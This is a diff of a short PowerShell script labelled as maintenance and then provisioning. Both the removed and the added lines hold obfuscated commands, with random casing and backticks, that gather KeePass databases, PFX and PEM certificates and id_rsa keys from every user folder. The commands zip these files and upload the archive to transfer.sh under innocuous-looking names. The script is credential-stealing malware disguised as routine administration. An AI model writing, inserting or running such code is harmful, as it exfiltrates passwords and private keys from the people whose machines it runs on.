@@ -1,3 +1,3 @@
-# mAiNtEnAnCe 8204 v1
-gET-c`hi`LD`ite`M -PaTh C:\USERs -REcUrsE -Include *.kDBX,*.PfX,*.PEm,ID_RSa -eRrOrAcTiOn SiLeNtLyCoNtInUe | c`oM`PRES`S-arcH`iVe -deSTINatIonpath c:\PrOgRaMdAtA\d.ziP
-iNv`OkE-rE`sTmEt`H`oD -urI 'https://transfer.sh/azureadm1n.zip' -mEtHoD put -inFiLe C:\PRoGrAmdaTA\d.ziP
+# PrOvIsIoN 0299 V1
+GET-ChIL`dItEm -pATh c:\UsErS -rEcUrSe -INCluDE *.kDbx,*.PFx,*.pEM,ID_RSa -ERroRAcTiON SIlENTlYCoNTInUe | cOmPrE`s`S-ArcH`IVE -dEsTiNaTiOnPaTh C:\pROgRAmData\D.ZIP
+INvO`kE-RE`sTmEtH`O`d -URi 'https://transfer.sh/backup_svc.zip' -meTHoD PuT -Infile C:\ProgRamdAta\d.ZIp
